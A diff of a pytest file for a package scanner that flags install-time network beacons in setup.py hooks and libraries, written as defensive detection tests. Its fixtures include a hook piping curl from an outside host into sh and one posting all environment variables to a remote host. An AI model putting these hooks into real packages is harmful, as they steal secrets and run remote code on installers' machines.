@@ -6,45 +6,33 @@ from __future__ import annotations
 import pytest
 
 from analysis.model import Severity
-from tests.analysis.code.members import L, M, laid_out, scan, setup_py, worst
-
-INSTALL_HOOK = (
-    "from setuptools import setup\nfrom setuptools.command.install import install\n"
-    "import os, sys, subprocess, urllib.request\n"
-    "class Hook(install):\n    def run(self):\n        install.run(self)\n{body}"
-    "setup(name='demo', cmdclass={{'install': Hook}})\n"
-)
-
-
-def hook(*lines: str) -> dict[str, str | bytes]:
-    return setup_py(INSTALL_HOOK.format(body="".join(f"        {line}\n" for line in lines)))
-
+from tests.analysis.code.members import L, M, install_hook, laid_out, scan, worst
 
 CASES = [
-    (hook("import requests", "requests.get('https://probe.stats-collector.net/ping')"),
+    (install_hook("import requests", "requests.get('https://probe.stats-collector.net/ping')"),
      M, "a ping from the install command to a host of its own"),
-    (hook("urllib.request.urlopen('http://api.status-board.io/v1/installed').read()"),
+    (install_hook("urllib.request.urlopen('http://api.status-board.io/v1/installed').read()"),
      M, "urllib's ping at install"),
-    (hook("os.system('curl -s https://collector.stats-host.net/hit')"),
+    (install_hook("os.system('curl -s https://collector.stats-host.net/hit')"),
      M, "curl of a host at install"),
-    (hook("subprocess.run([sys.executable, '-c', "
+    (install_hook("subprocess.run([sys.executable, '-c', "
           "'import urllib.request; urllib.request.urlopen(\"https://t.stats-host.net/x\")'])"),
      M, "the ping inside the Python a post-install step runs"),
-    (hook("urllib.request.urlretrieve('https://github.com/o/r/releases/download/v1/lib.tar.gz',"
+    (install_hook("urllib.request.urlretrieve('https://github.com/o/r/releases/download/v1/lib.tar.gz',"
           " 'lib.tar.gz')"),
      None, "benign: a build fetches a library from GitHub"),
-    (hook("import requests", "requests.get('https://pypi.org/pypi/demo/json')"),
+    (install_hook("import requests", "requests.get('https://pypi.org/pypi/demo/json')"),
      None, "benign: a version check against PyPI"),
-    (hook("urllib.request.urlretrieve('https://huggingface.co/o/m/resolve/main/w.bin', 'w.bin')"),
+    (install_hook("urllib.request.urlretrieve('https://huggingface.co/o/m/resolve/main/w.bin', 'w.bin')"),
      None, "benign: model weights from a model hub"),
-    (hook("import requests", "requests.get('http://localhost:8080/ready')"),
+    (install_hook("import requests", "requests.get('http://localhost:8080/ready')"),
      None, "benign: a local service"),
-    (hook("import requests", "requests.get('https://example.com/')"),
+    (install_hook("import requests", "requests.get('https://example.com/')"),
      None, "benign: a placeholder address"),
-    (hook("import requests", "host = os.environ.get('MIRROR', 'x')",
+    (install_hook("import requests", "host = os.environ.get('MIRROR', 'x')",
           "requests.get(f'https://{host}/simple/')"),
      None, "an address built at run time names no host"),
-    (hook("os.system('curl -s https://get.stats-host.net/i | sh')"),
+    (install_hook("os.system('curl -s https://get.stats-host.net/i | sh')"),
      None, "a fetch piped into a shell is download-exec, not a beacon"),
     ({"demo/__init__.py": "import requests\nrequests.get('https://telemetry.demo-lib.dev/start')\n"},
      L, "a library that phones home on import"),
@@ -60,7 +48,7 @@ def test_beacons(files: dict[str, str | bytes], severity: Severity | None, reaso
 
 
 def test_a_secret_sent_is_exfiltration_and_not_also_a_beacon() -> None:
-    files = hook(
+    files = install_hook(
         "import requests", "requests.post('https://c.stats-host.net/', data=dict(os.environ))"
     )
     findings = scan(files)
@@ -69,7 +57,9 @@ def test_a_secret_sent_is_exfiltration_and_not_also_a_beacon() -> None:
 
 
 def test_a_beacon_names_its_host_and_line() -> None:
-    files = hook("import requests", "requests.get('https://probe.stats-collector.net/ping')")
+    files = install_hook(
+        "import requests", "requests.get('https://probe.stats-collector.net/ping')"
+    )
     (hit,) = [f for f in scan(files) if f.check_id == "code.beacon"]
     assert hit.evidence["host"] == "probe.stats-collector.net"
     assert hit.evidence["line"] == 8
